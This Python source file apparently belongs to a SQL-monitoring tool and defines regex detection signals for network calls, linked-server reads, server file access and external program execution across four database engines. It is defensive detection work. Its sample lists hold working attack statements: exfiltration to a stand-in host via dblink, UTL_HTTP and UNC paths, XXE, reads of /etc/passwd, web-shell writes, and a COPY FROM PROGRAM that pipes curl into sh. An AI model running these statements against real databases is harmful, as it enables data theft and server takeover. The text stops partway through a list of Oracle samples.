"""How data and the server are reached: files, the network, the catalog, credentials, other accounts."""

from __future__ import annotations

import re

from daswatch.sql.signal_table.model import ALL, Pattern, Signal, words

_PG = ("postgresql",)
_MYSQL = ("mysql",)
_ORACLE = ("oracle",)
_SQLSERVER = ("sqlserver",)

_QUALIFIED = r"(?<![\w$.])(?:[\w$]{1,63}\.)?"  # a name with or without its schema
_CALLED = rf"(?<!function )(?<!procedure ){_QUALIFIED}"  # and not created, granted or dropped
_EXECUTED = r"(?:\A|;|\b(?:exec(?:ute)?|call|begin|then|else) ?)(?:@\w{1,128}=)?(?:[\w$#]{0,128}\.){0,3}"
_READ_FROM = r"(?:\bfrom|\bjoin|,|\bcopy|(?:\A|;|\()table) ?(?:only )?"
_COPY = r"(?:\Acopy\b[^;]{1,1900}?|(?:;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,400}?)"
_UNC = r"'\\\\|\bchar\(92\)\s{0,9}\+\s{0,9}char\(92\)|\b0x5c005c|\b0x5c5c"  # two backslashes at the beginning
_SOME = r"[\w$#]{1,128}"


def _any(*names: str) -> str:
    return rf"(?:{'|'.join(map(re.escape, names))})"


def _calls(engines: tuple[str, ...], *names: str, raw: str = "") -> Pattern:
    """Functions that are called, in any schema."""
    return Pattern(engines, names, rf"{_CALLED}{_any(*names)}\(", raw)


def _packages(*names: str) -> Pattern:
    """Anything of these packages of Oracle."""
    return Pattern(_ORACLE, names, rf"(?<![\w$#]){_any(*names)}\.\w")


def _procedures(*names: str, raw: str = "") -> Pattern:
    """Procedures of SQL Server that are executed, in any database and schema, also without EXEC."""
    return Pattern(_SQLSERVER, names, rf"{_EXECUTED}{_any(*names)}\b(?!\.)", raw)


# A UNC path makes the server authenticate to another host, regardless of the function that opens it.
_OPENS_PATHS = words(
    "xp_dirtree xp_fileexist xp_subdirs xp_create_subdir xp_delete_file xp_getfiledetails xp_copy_file xp_copy_files"
    " fn_xe_file_target_read_file fn_trace_gettable fn_trace_getinfo fn_get_audit_file fn_dump_dblog"
    " dm_os_file_exists dm_os_enumerate_filesystem backup restore bulk openrowset filename sp_addumpdevice"
    " sp_trace_create sp_attach_db certificate assembly"
)
_PASSWORDS = words(
    "password passwd pwd pass user_pass password_hash passwordhash pass_hash encrypted_password passhash"
)
_UNTRUSTED = words("plperlu plpythonu plpython2u plpython3u pltclu plsh c")

# An aggregate over all rows: no condition, grouping or limit after FROM. A derived table counts only if it reads all
# rows itself: PostgREST, Hasura and Prisma aggregate pages in derived tables.
_UP_TO_FROM = r"(?:(?!\bfrom\b)[^;]){0,400}+\bfrom ?"
_CHOICE = r"\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|into|cross apply|select)\b"
_NO_CHOICE = rf"(?:(?!{_CHOICE})[^();?$@]){{1,300}}+"
_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[01]|<>[01]| is not null)) ?)?"
_REST = r"(?:order by [\w.,]{1,130} ?(?:desc ?|asc ?)?)?"
_ALL_ROWS = (
    rf"{_UP_TO_FROM}(?:{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}(?=$|[);]|\bunion\b)"
    rf"|\(select[^()]{{1,300}}\bfrom (?!pgrst_source\b){_NO_CHOICE}{_ALWAYS_TRUE}{_REST}\))"
)
_UNION_OF = r"\bunion (?:all |distinct )?select\b[^;]{0,600}?\b"
_NOT_GROUPED = r"(?![^;]{0,1900}\bgroup by\b)"
_NOT_A_COUNT = r"\A(?![^;]{0,1900}select\s{1,9}count\s{0,9}\()"  # a common way to count the rows of all tables

_PG_CATALOG = words(
    "pg_aggregate pg_am pg_attrdef pg_attribute pg_auth_members pg_authid pg_available_extension_versions"
    " pg_available_extensions pg_cast pg_class pg_collation pg_config pg_constraint pg_database pg_db_role_setting"
    " pg_default_acl pg_depend pg_description pg_enum pg_event_trigger pg_extension pg_file_settings"
    " pg_foreign_data_wrapper pg_foreign_server pg_foreign_table pg_group pg_hba_file_rules pg_ident_file_mappings"
    " pg_index pg_indexes pg_inherits pg_init_privs pg_language pg_largeobject pg_largeobject_metadata pg_matviews"
    " pg_namespace pg_opclass pg_operator pg_parameter_acl pg_partitioned_table pg_policies pg_policy pg_proc"
    " pg_publication pg_publication_rel pg_publication_tables pg_range pg_replication_slots pg_rewrite pg_roles"
    " pg_rules pg_sequence pg_sequences pg_settings pg_shadow pg_shdepend pg_shdescription pg_stat_activity"
    " pg_statistic pg_stats pg_subscription pg_tables pg_tablespace pg_trigger pg_type pg_user pg_user_mapping"
    " pg_user_mappings pg_views"
)
_MYSQL_TABLES = words(
    "columns_priv component db default_roles event func global_grants global_priv password_history plugin proc"
    " procs_priv proxies_priv role_edges servers slave_master_info tables_priv user"
)
_ORACLE_VIEWS = (
    *(
        f"{prefix}_{name}"
        for prefix in ("all", "dba", "cdb")
        for name in words(
            "arguments audit_policies catalog col_comments col_privs cons_columns constraints credentials data_files"
            " db_links dependencies directories external_tables host_aces host_acls ind_columns indexes java_classes"
            " jobs libraries mviews network_acl_privileges network_acls objects policies procedures profiles proxies"
            " registry role_privs roles scheduler_credentials scheduler_jobs scheduler_programs segments sequences"
            " source synonyms sys_privs tab_cols tab_columns tab_comments tab_privs tab_privs_made tab_privs_recd"
            " tables tablespaces triggers ts_quotas types users users_with_defpwd views"
        )
    ),
    *(
        f"user_{name}"
        for name in words(
            "col_comments col_privs cons_columns constraints db_links ind_columns objects procedures role_privs"
            " scheduler_jobs sequences source synonyms sys_privs tab_cols tab_columns tab_comments tab_privs"
            " tab_privs_recd tables users"
        )
    ),
    *words(
        "session_privs session_roles role_role_privs role_sys_privs role_tab_privs v$version v$database v$instance"
        " v$parameter v$session v$pdbs v$option v$pwfile_users gv$instance gv$session gv$parameter"
        " product_component_version user$ obj$ tab$ col$ con$ link$ sysauth$ objauth$ source$ trigger$ view$ tabprivs"
    ),
)
_SQLSERVER_TABLES = words(
    "sysobjects syscolumns sysusers syslogins sysdatabases sysservers sysprocesses syscomments sysmembers"
    " sysprotects syspermissions sysxlogins sysindexes systypes"
)
_SQLSERVER_PROCEDURES = words(
    "sp_columns sp_databases sp_help sp_helpdb sp_helpdbfixedrole sp_helpgroup sp_helpindex sp_helplinkedsrvlogin"
    " sp_helplogins sp_helpntgroup sp_helprole sp_helprolemember sp_helprotect sp_helpserver sp_helpsrvrole"
    " sp_helpsrvrolemember sp_helptext sp_helpuser sp_linkedservers sp_srvrolepermission sp_dbfixedrolepermission"
    " sp_special_columns sp_stored_procedures sp_table_privileges sp_column_privileges sp_tables sp_pkeys sp_fkeys"
)

# dblink: a connection string without a host is a loopback, a common way to run autonomous transactions; a name is a
# connection or a server that was set up before.
_DBLINKS = words("dblink dblink_connect dblink_connect_u dblink_open dblink_send_query")
_NOT_ITSELF = r"\A(?![\s\S]{0,1900}\bdbname\b)"
_LINK_NAME = r"'[\w$-]{1,63}'\s{0,9}"
_LINK_BY_NAME = (
    rf"\bdblink(?:(?:_open|_send_query)?\"?\s{{0,9}}\(\s{{0,9}}{_LINK_NAME},"
    rf"|_connect(?:_u)?\"?\s{{0,9}}\(\s{{0,9}}(?:{_LINK_NAME},\s{{0,9}})?{_LINK_NAME}\))"
)

_NETWORK_CALL = Signal(
    "network-call",
    "The database connects to another host, or a link or network permission for this is created.",
    (
        _calls(
            _PG,
            *words("http_get http_post http_put http_patch http_delete http_head"),
        ),
        _calls(_PG, *_DBLINKS, raw=rf"{_NOT_ITSELF}(?![\s\S]{{0,1900}}?{_LINK_BY_NAME})|\bhost|://"),
        _calls(_PG, "dblink_exec", raw=rf"{_NOT_ITSELF}|\bhost|://"),
        Pattern(
            _PG,
            ("server",),
            r"\bcreate server [^;]{1,400}foreign data wrapper (?!file_fdw|log_fdw)\w"
            r"|\balter server [^;]{1,200}options\("
            r"|\bimport foreign schema\b|\bcreate foreign table\b|\b(?:create|alter) user mapping\b",
        ),
        Pattern(_PG, ("primary_conninfo",), r"\balter system set primary_conninfo\b"),
        Pattern(_MYSQL, ("federated",), r"\bengine(?:=| )federated\b"),
        Pattern(_MYSQL, ("engine",), r"\bengine(?:=| )\?", r"\bengine\s{0,9}=?\s{0,9}['\"]federated\b"),
        Pattern(
            _MYSQL,
            ("server",),
            r"\bcreate server [^;]{1,200}foreign data wrapper\b|\balter server [^;]{1,200}options\(",
        ),
        Pattern(
            _MYSQL,
            ("load_file", "outfile", "dumpfile", "infile"),
            r"\bload_file\(|\b(?:out|dump|in)file\b",
            r"['\"]\\\\|\b0x5c5c|char\(92,\s{0,9}92",
        ),
        _packages(
            *words("utl_http utl_smtp utl_tcp utl_mail utl_inaddr utl_dbws dbms_ldap dbms_ldap_utl dbms_cloud"),
            *words("dbms_network_acl_admin dbms_debug_jdwp apex_web_service apex_mail dbms_cloud_notification"),
            *words("dbms_file_transfer"),
        ),
        Pattern(_ORACLE, ("httpuritype", "urifactory"), r"(?<![\w$#])(?:httpuritype\(|httpuritype\.|urifactory\.)"),
        # The parser fetches external entities.
        Pattern(
            _ORACLE,
            words("xmltype xmlparse dbms_xmlparser xmlparser extractvalue dbms_xmldom xmlquery"),
            r"(?<![\w$#])(?:xmltype|xmlparse|extractvalue|xmlquery|dbms_xmlparser|xmlparser|dbms_xmldom)[(.]",
            r"<!(?:entity|doctype)\b[^>]{0,300}\bsystem\b",
        ),
        Pattern(_ORACLE, ("ctx_ddl",), r"\bctx_ddl\.\w", r"'(?:url|network)_datastore'"),
        Pattern(
            _ORACLE, ("link",), r"\bcreate (?:shared )?(?:public )?database link\b|\balter (?:public )?database link\b"
        ),
        Pattern(
            _ORACLE,
            words("insert update delete merge begin call exec"),
            r"\b(?:insert into|update|merge into|delete from|delete|call) ?[\w$#.]{1,130}@\w"
            r"|(?:\bbegin |;|\Acall |:=)(?:[\w$#.]{1,130})@\w",
        ),
        Pattern(_SQLSERVER, ("openrowset",), r"\bopenrowset\((?!bulk\b)"),
        Pattern(_SQLSERVER, ("openquery", "opendatasource"), r"\bopen(?:query|datasource)\("),
        _procedures(
            *words("sp_addlinkedserver sp_addlinkedsrvlogin sp_testlinkedserver sp_invoke_external_rest_endpoint"),
            *words("xp_sendmail xp_startmail"),
        ),
        _procedures("sp_serveroption", raw=r"'rpc"),
        _procedures("sp_configure", raw=r"'ad hoc dist[a-z ]{0,30}'\s{0,9},\s{0,9}(?:@configvalue\s{0,9}=\s{0,9})?1"),
        Pattern(_SQLSERVER, ("url",), r"\bbackup (?:database|log)\b[^;]{1,300}?\bto url\b"),
        _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
        Pattern(_SQLSERVER, ("at",), r"\bexec(?:ute)?\([^;]{1,400}\)at \w"),
        Pattern(
            _SQLSERVER,
            words("insert update delete merge exec execute"),
            rf"\b(?:insert(?: into)?|update|delete(?: from)?|merge(?: into)?|exec(?:ute)?(?: @\w{{1,128}}=)?) ?"
            rf"{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}",
        ),
        Pattern(_SQLSERVER, ("endpoint", "source"), r"\bcreate (?:endpoint|external data source)\b"),
        Pattern(
            _SQLSERVER,
            _OPENS_PATHS,
            rf"\b{_any(*_OPENS_PATHS)}\b",
            _UNC,
        ),
    ),
    samples={
        "postgresql": (
            "SELECT * FROM dblink('host=203.0.113.9 user=x dbname=l', 'select 1') AS t(a int)",
            "SELECT public.\"dblink_connect_u\"('c', 'hostaddr=203.0.113.9 port=22')",
            "SELECT dblink_exec('c', 'insert into loot select ' || quote_literal(x)) FROM customers",
            "CREATE SERVER s9 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
            "CREATE USER MAPPING FOR app SERVER s9 OPTIONS (user 'x', password 'y')",
            "IMPORT FOREIGN SCHEMA public FROM SERVER s9 INTO f",
            "SELECT content FROM http_get('http://203.0.113.9/' || (SELECT email FROM customers LIMIT 1))",
        ),
        "mysql": (
            "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://x:y@203.0.113.9/l/f'",
            "CREATE TABLE f (id INT) ENGINE='Federated' CONNECTION='s/f'",
            "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '203.0.113.9', DATABASE 'l')",
            "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT DATABASE()), '.evil.example\\\\a'))",
        ),
        "oracle": (
            "SELECT UTL_HTTP.REQUEST('http://203.0.113.9/?' || (SELECT user FROM dual)) FROM dual",
            "BEGIN FOR r IN (SELECT email FROM c) LOOP x := SYS.UTL_TCP.OPEN_CONNECTION(r.email, 25); END LOOP; END;",
            "SELECT DBMS_LDAP.INIT((SELECT user FROM dual) || '.evil.example', 80) FROM dual",
            "SELECT HTTPURITYPE('http://203.0.113.9/').getclob() FROM dual",
            'SELECT EXTRACTVALUE(XMLTYPE(\'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM'
            " \"http://203.0.113.9/'||(SELECT user FROM dual)||'\"> %x;]>'), '/l') FROM dual",
            "BEGIN DBMS_NETWORK_ACL_ADMIN.APPEND_HOST_ACE('*', xs$ace_type()); END;",
            "BEGIN UTL_MAIL.SEND('a@example.com', 'b@example.net', message => v); END;",
            "SELECT APEX_WEB_SERVICE.MAKE_REST_REQUEST('http://203.0.113.9', 'GET') FROM dual",
            "BEGIN DBMS_CLOUD.PUT_OBJECT('c', 'https://203.0.113.9/o', d); END;",
            "CREATE PUBLIC DATABASE LINK l CONNECT TO x IDENTIFIED BY y USING '//203.0.113.9/x'",
            "INSERT INTO loot@l SELECT * FROM customers",
            "BEGIN dbms_utility.exec_ddl_statement@l('create table x (y int)'); END;",
        ),
        "sqlserver": (
            "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select 1')",
            "SELECT * FROM OPENQUERY(\"SRV-1\", 'select @@servername')",
            "INSERT INTO OPENDATASOURCE('SQLOLEDB','Data Source=203.0.113.9').l.dbo.c SELECT * FROM dbo.c",
            "EXEC sp_addlinkedserver @server='X9', @srvproduct='', @provider='SQLNCLI', @datasrc='203.0.113.9'",
            "EXEC ('select 1') AT [SRV-1]",
            "EXEC srv1.master.dbo.sp_executesql N'select 1'",
            "INSERT INTO X9.loot.dbo.c SELECT Email FROM dbo.Customers",
            "EXEC master..xp_dirtree '\\\\203.0.113.9\\s', 1, 1",
            "DECLARE @p varchar(99); SET @p = '\\\\' + (SELECT db_name()) + '.evil.example\\a'; EXEC xp_fileexist @p",
            "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\203.0.113.9\\a.xel', NULL, NULL, NULL)",
            "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\a.trc', default)",
            "DECLARE @p varchar(99) = CHAR(92) + CHAR(92) + '203.0.113.9'; EXEC xp_dirtree @p",
            "BACKUP LOG [store] TO DISK = '\\\\203.0.113.9\\s\\a.bak'",
            "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
            "BACKUP DATABASE [shop] TO URL = 'https://example.blob.core.windows.net/b/a.bak'",
            "EXEC sp_configure 'Ad Hoc Distributed Queries', 1",
        ),
    },
    near_misses={
        "postgresql": (
            "GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text) TO app",
            "INSERT INTO posts (body) VALUES ('dblink(''host=203.0.113.9'') opens a connection')",
            "SELECT * FROM dblink_settings",
            "CREATE EXTENSION postgres_fdw",
            "SELECT dblink_connect('own', 'dbname=' || current_database())",
            "SELECT * FROM dblink('reporting', 'select 1') AS t(a int)",
            "SELECT dblink_connect('c', 'reporting_server')",
            "CREATE SERVER logs FOREIGN DATA WRAPPER log_fdw",
        ),
        "mysql": (
            "GRANT INVOKE LAMBDA ON *.* TO 'app'@'%'",
            "CREATE TABLE t (id INT) ENGINE=InnoDB",
            "SHOW REPLICA STATUS",
            "SELECT load_file_id FROM imports WHERE path = 'C:\\\\a'",
        ),
        "oracle": (
            "GRANT EXECUTE ON SYS.UTL_HTTP TO app",
            "SELECT text FROM dba_source WHERE text LIKE '%UTL_HTTP.%'",
            "SELECT XMLTYPE('<a>1</a>').extract('/a') FROM dual",
            "SELECT * FROM orders@dwh WHERE id = :1",
            "SELECT email FROM users WHERE email = 'a@example.com'",
        ),
        "sqlserver": (
            "SELECT * FROM OPENROWSET(BULK 'D:\\S3\\a.csv', SINGLE_CLOB) x",
            "EXEC msdb.dbo.sp_send_dbmail @recipients='ops@example.com', @body='job done'",
            "SELECT * FROM sys.fn_xe_file_target_read_file('D:\\rdsdbdata\\log\\*.xel', NULL, NULL, NULL)",
            "SELECT * FROM fn_trace_gettable(@path, default)",
            "EXEC master.dbo.usp_report 4",
            "SELECT * FROM srv1.sales.dbo.orders",
            "INSERT INTO notes (body) VALUES ('\\\\203.0.113.9\\s is a share')",
        ),
    },
)

_LINKED_READ = Signal(
    "linked-read",
    "Objects of another server are read through an existing link.",
    (
        _calls(
            _PG,
            *_DBLINKS,
            raw=rf"\A(?![\s\S]{{0,1900}}(?:\bdbname\b|\bhost|://))[\s\S]{{0,1900}}?{_LINK_BY_NAME}",
        ),
        Pattern(_ORACLE, ("from", "join"), r"(?:\bfrom|\bjoin|,) ?[\w$#.]{1,130}@[\w$#]"),
        Pattern(
            _SQLSERVER,
            ("from", "join"),
            rf"\b(?:from|join) ?{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}(?![\w$#(.])",
        ),
        Pattern(_SQLSERVER, ("openquery",), r"\bopenquery\("),
    ),
    samples={
        "postgresql": (
            "SELECT * FROM dblink('reporting', 'select id from orders') AS t(id int)",
            "SELECT public.dblink_connect('c', 'reporting_server')",
        ),
        "oracle": (
            "SELECT * FROM orders@dwh.example.com WHERE id = :1",
            "SELECT a.id FROM t a JOIN sales.orders@dwh b ON a.id = b.id",
        ),
        "sqlserver": (
            "SELECT * FROM [SRV-1].sales.dbo.orders o WHERE o.id = @p0",
            "SELECT a FROM t JOIN srv1...orders b ON t.id = b.id",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT * FROM dblink('host=203.0.113.9 dbname=l', 'select 1') AS t(a int)",
            "SELECT dblink_connect('own', 'dbname=' || current_database())",
        ),
        "oracle": ("SELECT id FROM orders WHERE mail = 'x@example.com'", "SELECT id FROM sales.orders"),
        "sqlserver": (
            "SELECT * FROM sales.dbo.orders WHERE id = @p0",
            "SELECT sales.dbo.orders.id FROM sales.dbo.orders",
            "SELECT x.value('.', 'int') FROM dbo.t CROSS APPLY t.doc.nodes('/a') AS n(x)",
        ),
    },
)

_FROM_S3 = r"\bfrom\s{0,9}n?'d:\\s3\\(?![^']{0,300}\.\.)[^']{1,300}'"
_SERVER_FILE = Signal(
    "server-file",
    "A file or a directory of the database server is read, listed or written.",
    (
        _calls(
            _PG,
            *words("pg_read_file pg_read_binary_file pg_ls_dir pg_ls_logdir pg_stat_file lo_import lo_export"),
            *words("pg_file_write pg_file_read pg_file_rename pg_file_unlink pg_logdir_ls sys_fileread"),
            # The server's log, which holds statements with their values.
            *words("list_postgres_log_files create_foreign_table_for_log_file"),
        ),
        Pattern(
            _PG,
            ("copy",),
            rf"{_COPY}(?:(?<!distinct )\bfrom|\bto) ?\?"
            r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|where|encoding|quote|escape|force|using|end)\b)",
        ),
        Pattern(_PG, ("file_fdw",), r"\bcreate extension (?:if not exists )?file_fdw\b|\bdata wrapper file_fdw\b"),
        Pattern(_PG, ("pg_largeobject",), r"\b(?:insert into|update) (?:pg_catalog\.)?pg_largeobject\b"),
        _calls(_MYSQL, "load_file"),
        Pattern(_MYSQL, ("outfile", "dumpfile"), r"\binto (?:outfile|dumpfile) ?+(?!s3\b)"),
        Pattern(
            _MYSQL,
            ("load",),
            r"\bload (?:data|xml) (?:low_priority |concurrent )?infile\b",
        ),
        Pattern(_MYSQL, ("import",), r"\Aimport table from\b"),
        Pattern(_MYSQL, ("general_log_file", "slow_query_log_file"), r"\b(?:general_log|slow_query_log)_file=[?$@]"),
        _packages(*words("dbms_advisor dbms_file_transfer dbms_xslprocessor")),
        # FREMOVE deletes dump files after an import.
        Pattern(_ORACLE, ("utl_file",), r"(?<![\w$#])utl_file\.(?!fremove)\w"),
        Pattern(_ORACLE, ("dbms_lob",), r"\bdbms_lob\.(?:file|loadfromfile|loadclobfromfile|loadblobfromfile)"),
        Pattern(_ORACLE, ("bfilename",), r"(?<![\w$#.])bfilename\("),
        Pattern(_ORACLE, ("directory",), r"\bcreate (?:or replace )?directory\b"),
        Pattern(_ORACLE, ("external",), r"\borganization external\b|\bfrom external ?\("),
        Pattern(_ORACLE, ("ctx_ddl",), r"\bctx_ddl\.\w", r"'(?:file|directory)_datastore'"),
        Pattern(_SQLSERVER, ("openrowset",), r"\bopenrowset\(bulk\b"),
        # RDS puts what it brings from S3 into D:\\S3.
        Pattern(
            _SQLSERVER,
            ("bulk",),
            r"\bbulk insert\b[^;]{1,400}\bfrom ?[?@]",
            rf"bulk\s{{1,9}}insert\b(?![^;]{{1,400}}?{_FROM_S3})",
        ),
        _procedures(
            *words("xp_dirtree xp_fileexist xp_subdirs xp_create_subdir xp_delete_file xp_getfiledetails"),
            *words("xp_copy_file xp_copy_files xp_delete_files"),
        ),
        Pattern(
            _SQLSERVER,
            ("dm_os_enumerate_filesystem", "dm_os_file_exists"),
            r"\bdm_os_(?:enumerate_filesystem|file_exists)\(",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT pg_read_file('/etc/passwd', 0, 4000)",
            "SELECT * FROM pg_catalog.pg_ls_dir('/rdsdbdata')",
            "SELECT lo_import('/etc/passwd', 9911)",
            "SELECT create_foreign_table_for_log_file('l', 's', 'postgresql.log.2031-03-04-0900.csv')",
            "SELECT * FROM public.list_postgres_log_files() ORDER BY 1 DESC",
            "SELECT lo_export(43213, '/tmp/a.so')",
            "COPY f FROM '/rdsdbdata/config/postgresql.conf'",
            "COPY (SELECT * FROM customers) TO '/tmp/c.csv' WITH (FORMAT csv)",
            "DO $$ BEGIN COPY f (l) FROM '/etc/passwd'; END $$",
            "CREATE SERVER f FOREIGN DATA WRAPPER file_fdw",
            "INSERT INTO pg_largeobject VALUES (1, 0, decode('7f45', 'hex'))",
        ),
        "mysql": (
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT * FROM customers INTO/* a b */OUTFILE '/tmp/c'",
            "SELECT 0x7f454c46 INTO DUMPFILE '/rdsdbbin/plugin/a.so'",
            "SELECT a FROM t WHERE id = 4 LIMIT 0,1 INTO OUTFILE '/var/www/a.php' LINES TERMINATED BY 0x3c3f-- -",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "SET GLOBAL general_log_file = '/var/www/html/a.php'",
        ),
        "oracle": (
            "DECLARE f UTL_FILE.FILE_TYPE; BEGIN f := UTL_FILE.FOPEN('D', 'a', 'r'); END;",
            "SELECT DBMS_LOB.GETLENGTH(BFILENAME('D', 'passwd')) FROM dual",
            "BEGIN DBMS_LOB.LOADFROMFILE(b, f, 4000); END;",
            "BEGIN DBMS_XSLPROCESSOR.CLOB2FILE(c, 'D', 'a'); END;",
            "BEGIN DBMS_ADVISOR.CREATE_FILE(c, 'D', 'a'); END;",
            "CREATE OR REPLACE DIRECTORY d AS '/etc'",
            "CREATE TABLE x (l VARCHAR2(99)) ORGANIZATION EXTERNAL (DEFAULT DIRECTORY d LOCATION ('passwd'))",
        ),
        "sqlserver": (
            "SELECT * FROM OPENROWSET(BULK N'C:\\Windows\\win.ini', SINGLE_CLOB) x",
            "BULK INSERT #t FROM 'C:\\inetpub\\web.config'",
            "EXEC master.sys.xp_dirtree 'C:\\', 1, 1",
            "master..xp_fileexist 'C:\\a'",
            "SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')",
        ),
    },
    near_misses={
        "postgresql": (
            "COPY lineitem FROM STDIN WITH DELIMITER '|'",
            "COPY (SELECT a FROM t WHERE b = 'x') TO STDOUT",
            "UPDATE page SET copy = 'x' WHERE copy IS DISTINCT FROM 'y'",
            "SELECT count(*) FROM pg_ls_waldir()",
            "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app",
            "SELECT lo_get(4)",
        ),
        "mysql": (
            "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE t",
            "LOAD DATA FROM S3 's3://b/a.csv' INTO TABLE t",
            "SELECT * FROM t INTO OUTFILE S3 's3://b/t'",
            "SELECT @@general_log_file",
            "SELECT a INTO @b FROM t",
        ),
        "oracle": (
            "GRANT EXECUTE ON UTL_FILE TO app",
            "GRANT READ ON DIRECTORY d TO app",
            "SELECT text FROM table(rdsadmin.rds_file_util.read_text_file('DATA_PUMP_DIR', 'import.log'))",
            "BEGIN UTL_FILE.FREMOVE('DATA_PUMP_DIR', 'a.dmp'); END;",
            "SELECT DBMS_LOB.SUBSTR(c, 4000, 1) FROM t",
        ),
        "sqlserver": (
            "INSERT BULK dbo.t (a int)",
            "SELECT bulk FROM dbo.products",
            "GRANT EXECUTE ON xp_dirtree TO app",
        ),
    },
)

_PROGRAM_EXECUTION = Signal(
    "program-execution",
    "A program or script is run outside the database, or its execution is enabled. Calls of Lambda have their own"
    " signal.",
    (
        Pattern(_PG, ("program",), r"\b(?:from|to) program ?[?$]"),
        _calls(_PG, "sys_exec", "sys_eval", "sys_bineval"),
        Pattern(
            _PG,
            ("aws_lambda",),
            r"\bset (?:local |session )?search_path(?:=| to )[^;]{0,300}\baws_lambda\b"
            r"|\bcreate extension (?:if not exists )?aws_lambda\b",
        ),
        Pattern(_PG, ("set_config",), r"\bset_config\(", r"'search_path'\s{0,9},[^;]{0,300}\baws_lambda\b"),
        Pattern(
            _PG,
            ("system",),
            r"\balter system set (?:archive_command|restore_command|archive_cleanup_command|recovery_end_command"
            r"|ssl_passphrase_command|archive_library|jit_provider)\b",
        ),
        Pattern(_PG, _UNTRUSTED, rf"(?:\A|;)do\b[^;]{{0,1900}}\blanguage {_any(*_UNTRUSTED)}\b"),
        _calls(_PG, "lo_from_bytea", "lo_put", "lowrite", raw=r"7f454c46"),
        _calls(_MYSQL, *words("sys_exec sys_eval sys_bineval")),
        Pattern(_MYSQL, ("dumpfile",), r"\binto dumpfile\b", r"0x7f454c46|0x4d5a|/plugin/|\.(?:so|dll)['\"]"),
        Pattern(
            _ORACLE,
            ("dbms_scheduler",),
            r"\bdbms_scheduler\.(?:create_job|create_program|set_attribute)",
            r"'(?:executable|external_script|backup_script|sql_script)'"
            r"|'external'\s{0,9}\|\||'external_'\s{0,9}\|\||\|\|\s{0,9}'_?script'",
        ),
        Pattern(_ORACLE, ("job_type", "program_type"), r"\b(?:job|program)_type=>\?\|\|\?"),
        # A word that a character's code cuts.
        Pattern(
            _ORACLE,
            ("dbms_scheduler",),
            r"\bdbms_scheduler\.create_(?:job|program)",
            r"[a-z]'\s{0,9}\|\|\s{0,9}chr\s{0,9}\(\s{0,9}\d{1,3}\s{0,9}\)\s{0,9}\|\|\s{0,9}'[a-z]",
        ),
        _packages("dbms_java_test", "dbms_jvm_exp_perms"),
        Pattern(_ORACLE, ("dbms_java",), r"\bdbms_java\.(?:runjava|set_output_to_java)"),
        Pattern(
            _ORACLE,
            ("dbms_java",),
            r"\bdbms_java\.grant_p",
            r"filepermission[\s\S]{0,300}\bexecute\b|<<all files>>|java\.lang\.runtimepermission",
        ),
        Pattern(
            _ORACLE,
            words("getruntime processbuilder runtime class"),
            r"\bjava (?:source|class)\b[^@]{0,1900}\b(?:getruntime|processbuilder|runtime|forname)\b",
        ),
        Pattern(_ORACLE, ("preprocessor",), r"\baccess parameters ?\([^;]{0,900}\bpreprocessor\b"),
        _procedures(
            *words("xp_cmdshell sp_oacreate sp_oamethod sp_oagetproperty sp_oasetproperty sp_addextendedproc"),
            *words("sp_execute_external_script sp_xp_cmdshell_proxy_account sp_makewebtask"),
            *words("sp_execute_external xp_terminate_process"),
        ),
        _procedures("xp_servicecontrol", raw=r"'(?:start|stop|pause|continue)'"),
        Pattern(
            _SQLSERVER,
            ("synonym",),
            r"\bcreate synonym [\w$#.]{1,200} for [\w$#.]{0,200}"
            r"\b(?:xp_cmdshell|sp_oa\w++|sp_execute_external_script)\b",
        ),
        Pattern(_SQLSERVER, ("dbcc",), r"\bdbcc addextendedproc\b"),
        Pattern(_SQLSERVER, ("subsystem",), r"@subsystem=@"),
        _procedures("sp_add_jobstep", "sp_update_jobstep", raw=r"'(?:cmdexec|powershell|activescripting|ssis)'"),
        _procedures(
            "sp_configure",
            raw=r"'(?:xp_c[a-z]{0,9}|ole a[a-z ]{0,30}|external s[a-z ]{0,30})'"
            r"\s{0,9},\s{0,9}(?:@configvalue\s{0,9}=\s{0,9})?1",
        ),
        Pattern(_SQLSERVER, ("external",), r"\bcreate external (?:language|library)\b"),
    ),
    samples={
        "postgresql": (
            "COPY x FROM PROGRAM 'sh -c ''curl http://203.0.113.9/a|sh'''",
            "copy (select 1) to/**/program $x$id$x$",
            "SET search_path TO aws_lambda",
            "SET search_path = aws_lambda, aws_commons, public",
            "ALTER SYSTEM SET archive_command = 'sh /tmp/a'",
            "DO LANGUAGE plpython3u 'import os'",
            "SELECT lo_from_bytea(43213, decode('7f454c4602010100', 'hex'))",
        ),
        "mysql": (
            "SELECT sys_exec('id > /tmp/a')",
            "SELECT sys_eval('id')",
            "SELECT 0x7f454c46 INTO DUMPFILE '/rdsdbbin/plugin/a.so'",
        ),
        "oracle": (
            "DECLARE t VARCHAR2(30) := 'EXTERNAL'||'_'||'SCRIPT'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'J',"
            " job_type => t, job_action => 'id'); END;",
